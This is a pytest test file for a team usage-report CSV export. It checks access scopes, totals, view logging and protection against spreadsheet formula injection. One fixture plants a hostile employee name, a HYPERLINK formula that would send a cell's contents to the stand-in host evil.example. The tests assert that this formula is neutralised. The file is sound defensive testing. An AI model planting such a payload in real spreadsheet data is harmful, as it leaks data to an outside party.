"""Exports hold exactly what their viewer may see, sum to the stats answers, log a view of
each person in them, and cannot smuggle a formula into a spreadsheet."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from factories import person, store_usage, usage

from sync.clock import utc_today
from sync.notices import Notice
from sync.org.access import Viewer
from sync.reports.answers import NOT_IN_DIRECTORY, REFUSED
from sync.reports.exports import (
    COLUMNS,
    SCOPE_ORGANISATION,
    SCOPE_PERSON,
    SCOPE_SELF,
    SCOPE_TEAM,
    Export,
    ExportTooLarge,
    ask_export,
    neutralised,
    write_export,
)
from sync.reports.periods import Period
from sync.reports.queries import stats_answers
from sync.store.models import AccessLog, Employee

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


KEYS = ("admin", "ceo", "mgr", "rep", "peer", "left", "other", "tia")
EVERYONE = {f"{key}@example.com" for key in KEYS}


def ago(days: int) -> dt.date:
    return utc_today() - dt.timedelta(days=days)


@pytest.fixture
def org(db):
    """A CEO with two lines below: Max's (Remy, Pia, and Arlo who left) and Sol's (Tia);
    an admin at the top with nobody below; usage on several surfaces and days."""
    admin = person("admin@example.com", "Ada Admin", role="admin")
    ceo = person("ceo@example.com", "Cleo Chief")
    mgr = person("mgr@example.com", "Max Manager", manager=ceo)
    rep = person("rep@example.com", HOSTILE_NAME, manager=mgr)
    rep.department = "@Sales"
    rep.save()
    peer = person("peer@example.com", "Pia Peer", manager=mgr)
    left = person("left@example.com", "Arlo Left", manager=mgr, archived_on=ago(5))
    other = person("other@example.com", "Sol Other", manager=ceo)
    other_report = person("tia@example.com", "Tia Other", manager=other)
    records = []
    for key in KEYS:
        for offset in (1, 2, 6, 12, 40):
            email = f"{key}@example.com"
            cached = {"cached_input_tokens": 40}
            records.append(usage(f"u-{key}", ago(offset), credits=1.25, email=email, **cached))
            records.append(
                usage(f"u-{key}", ago(offset), "CODEX_IDE_VSCODE", threads=2, credits=0.5, **cached)
            )
    # Two clients of one surface on one day are one line; a web row without tokens yet.
    jetbrains = usage("u-rep", ago(1), "CODEX_IDE_JETBRAINS", credits=2.0, turns=5)
    records.append(jetbrains._replace(cached_input_tokens=60))
    records.append(usage("u-rep", ago(2), "CODEX_WEB", credits=4.0, input_tokens=None))
    store_usage(records)
    return {
        "admin": admin,
        "ceo": ceo,
        "mgr": mgr,
        "rep": rep,
        "peer": peer,
        "left": left,
        "other": other,
        "tia": other_report,
    }


def exported(export: Export, **kwargs) -> list[dict[str, str]]:
    out = io.StringIO()
    lines = write_export(export, out, "heading", **kwargs)
    text = out.getvalue()
    assert text.startswith("# heading\r\n")
    rows = list(csv.DictReader(io.StringIO(text.split("\r\n", 1)[1])))
    assert len(rows) == lines
    return rows


def export_of(viewer: Employee, days: int = 30, target=None, **kwargs) -> Export | Notice:
    find = None if target is None else (lambda: target)
    return ask_export(Viewer(viewer), find, Period.ending_before(utc_today(), days), (), **kwargs)


@pytest.mark.parametrize("days", [7, 30, 90])
def test_each_persons_lines_sum_to_their_stats_answer(org, days):
    export = export_of(org["ceo"], days, whole_team=True)
    assert isinstance(export, Export) and export.scope == SCOPE_TEAM
    rows = exported(export)
    answers = stats_answers(export.people, export.period)
    for employee in export.people:
        mine = [row for row in rows if row["email"] == employee.email]
        totals = answers[employee.id].current.totals
        assert sum(int(row["threads"]) for row in mine) == totals.threads
        assert sum(int(row["turns"]) for row in mine) == totals.turns
        assert sum(float(row["credits"]) for row in mine) == pytest.approx(totals.credits)
        for name in ("input_tokens", "output_tokens", "total_tokens", "cached_input_tokens"):
            known = [int(row[name]) for row in mine if row[name] != ""]
            assert (sum(known) if known else None) == totals.value(name)
        assert any(row["tokens_pending"] for row in mine) == totals.tokens_pending
    # Someone without usage has no lines (and is still logged as viewed, below).
    assert {row["email"] for row in rows} == {
        e.email for e in export.people if answers[e.id].current.totals.credits
    }


def test_lines_are_per_person_utc_day_and_surface_within_the_period(org):
    export = export_of(org["mgr"], 7, org["rep"])
    assert isinstance(export, Export) and export.scope == SCOPE_PERSON
    rows = exported(export)
    assert list(rows[0]) == list(COLUMNS)
    assert list(COLUMNS)[5:] == [
        *("threads", "turns", "credits", "input_tokens", "output_tokens", "total_tokens"),
        *("cached_input_tokens", "tokens_pending"),
    ]  # no derived figure (turn depth, cache share) among them
    keys = [(row["day"], row["surface"]) for row in rows]
    assert len(keys) == len(set(keys))  # one line per day and surface
    day1 = {row["surface"]: row for row in rows if row["day"] == ago(1).isoformat()}
    # The VS Code and JetBrains rows are one IDE line: 0.5 + 2.0 credits.
    assert day1["IDE"]["credits"] == "2.5" and day1["IDE"]["turns"] == "7"
    assert (day1["IDE"]["input_tokens"], day1["IDE"]["cached_input_tokens"]) == ("200", "100")
    web = next(row for row in rows if row["surface"] == "Codex in ChatGPT")
    assert web["input_tokens"] == "" and web["tokens_pending"] == "yes"  # unknown, not 0
    assert web["cached_input_tokens"] == ""
    # 7 days: the usage of 12 and 40 days ago is not in it.
    assert {row["day"] for row in rows} == {
        ago(1).isoformat(),
        ago(2).isoformat(),
        ago(6).isoformat(),
    }


def test_a_leavers_days_after_leaving_are_not_exported(org):
    rows = exported(export_of(org["mgr"], 30, org["left"]))
    days = {dt.date.fromisoformat(row["day"]) for row in rows}
    assert days and max(days) <= org["left"].archived_on
    assert ago(1) not in days and ago(6) in days


@pytest.mark.parametrize(
    ("viewer", "how", "emails"),
    [
        ("rep", {}, {"rep@example.com"}),  # their own, by default
        ("mgr", {"whole_team": True}, {"rep@example.com", "peer@example.com", "left@example.com"}),
        ("other", {"whole_team": True}, {"tia@example.com"}),
        (
            "ceo",
            {"whole_team": True},
            {f"{k}@example.com" for k in ("mgr", "rep", "peer", "left", "other", "tia")},
        ),
        # An admin with nobody below them gets what `/codex team` shows them: everyone.
        ("admin", {"whole_team": True}, EVERYONE),
        ("admin", {"everyone": True}, EVERYONE),
    ],
)
def test_an_export_holds_exactly_the_people_its_viewer_may_see(org, viewer, how, emails):
    export = export_of(org[viewer], 30, **how)
    assert isinstance(export, Export)
    assert {p.email for p in export.people} == emails
    assert {row["email"] for row in exported(export)} == emails


@pytest.mark.parametrize(
    ("viewer", "target", "how", "answer"),
    [
        ("peer", "rep", {}, REFUSED),  # a peer
        ("rep", "mgr", {}, REFUSED),  # upwards
        ("other", "rep", {}, REFUSED),  # the manager of another line
        ("mgr", "tia", {}, REFUSED),
        ("left", "left", {}, REFUSED),  # who has left sees nothing, not even their own
        ("rep", None, {"whole_team": True}, Notice("no_team")),
        ("mgr", None, {"everyone": True}, Notice("admins_only", {"action": "organisation"})),
        ("ceo", None, {"everyone": True}, Notice("admins_only", {"action": "organisation"})),
    ],
)
def test_what_a_viewer_may_not_see_is_refused_and_logged_nowhere(org, viewer, target, how, answer):
    target_employee = None if target is None else org[target]
    assert export_of(org[viewer], 30, target_employee, **how) == answer
    assert AccessLog.select().count() == 0


def test_someone_outside_the_directory_gets_no_export(org):
    week = Period.ending_before(utc_today(), 7)
    assert ask_export(Viewer(None, "outsider@example.com"), None, week, ()) == NOT_IN_DIRECTORY
    # Even one the config makes an admin: there is no viewer to log the views against.
    admin = Viewer(None, "config.admin@example.com")
    admins = ["config.admin@example.com"]
    assert ask_export(admin, None, week, admins, everyone=True) == NOT_IN_DIRECTORY


def test_a_config_admin_may_export_anyone(org):
    week = Period.ending_before(utc_today(), 7)
    export = ask_export(Viewer(org["peer"]), lambda: org["tia"], week, ["PEER@example.com"])
    assert isinstance(export, Export) and export.people == [org["tia"]]


def test_each_person_in_an_export_is_logged_once_as_viewed_by_its_viewer(org):
    export = export_of(org["mgr"], 30, whole_team=True)
    exported(export)
    logged = [(row.viewer_id, row.target_id, row.surface) for row in AccessLog.select()]
    assert sorted(logged) == sorted(
        (org["mgr"].id, org[key].id, "export") for key in ("rep", "peer", "left")
    )
    # One's own usage is not a view of anyone.
    own = export_of(org["rep"], 30)
    assert isinstance(own, Export) and own.scope == SCOPE_SELF
    exported(own)
    assert AccessLog.select().count() == 3


def test_a_person_without_usage_is_still_logged_as_viewed(org):
    quiet = person("quiet@example.com", "Quiet", manager=org["mgr"])
    export = export_of(org["mgr"], 7, quiet)
    assert exported(export) == []
    assert [(r.target_id, r.surface) for r in AccessLog.select()] == [(quiet.id, "export")]


def test_an_export_past_its_bound_stops_and_logs_nothing(org):
    export = export_of(org["ceo"], 30, whole_team=True)
    with pytest.raises(ExportTooLarge) as raised:
        exported(export, row_limit=5)
    assert raised.value.notice == Notice("export_too_large", {"limit": 5, "days": 30})
    assert AccessLog.select().count() == 0


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_cells_a_spreadsheet_would_run_are_neutralised(trigger):
    assert neutralised(trigger + "1+1") == "'" + trigger + "1+1"
    assert neutralised("Ada " + trigger) == "Ada " + trigger  # only a leading trigger matters
    assert neutralised("") == ""


def test_hostile_names_and_departments_arrive_as_text(org):
    rows = exported(export_of(org["mgr"], 7, org["rep"]))
    assert {row["name"] for row in rows} == {"'" + HOSTILE_NAME}
    assert {row["department"] for row in rows} == {"'@Sales"}
    # A name with a comma, quotes and a line break stays one cell.
    org["peer"].name = 'Pia, "the" \n=Peer'
    org["peer"].save()
    rows = exported(export_of(org["mgr"], 7, Employee.get_by_id(org["peer"].id)))
    assert {row["name"] for row in rows} == {'Pia, "the" \n=Peer'}
    assert all(len(row) == len(COLUMNS) for row in rows)


def test_no_cell_of_a_whole_export_starts_a_formula(org):
    for employee in Employee.select():
        employee.name = "-" + employee.name
        employee.department = "+1"
        employee.save()
    out = io.StringIO()
    write_export(export_of(org["admin"], 90, everyone=True), out, "heading")
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    starts = [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert starts == []


def test_an_organisation_export_is_everyone_for_an_admin(org):
    export = export_of(org["admin"], 30, everyone=True)
    assert isinstance(export, Export) and export.scope == SCOPE_ORGANISATION
    assert len(export.people) == Employee.select().count()
